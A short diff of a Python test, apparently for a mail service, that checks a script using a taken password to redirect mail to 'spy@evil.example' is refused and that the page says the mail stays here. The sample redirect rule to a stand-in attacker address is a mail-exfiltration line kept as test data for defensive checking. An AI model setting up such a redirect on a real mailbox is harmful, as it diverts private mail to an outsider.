@@ -162,7 +162,7 @@ def test_a_script_takes_the_password_and_is_refused_by_its_line(mia: Mailbox, mx
     text = put(mx1)
     assert text == 'redirect "spy@evil.example";'
     tells(mx1, ("postroom", text), redirects=[OUT])
-    assert "Sends mail on to" in page(browser) and "only while an exception lets it" in page(browser)
+    assert "Sends mail on to" in page(browser) and "sends nothing there, and that mail stays here" in page(browser)
     assert text.replace('"', "&quot;") in page(browser, url)
 
 
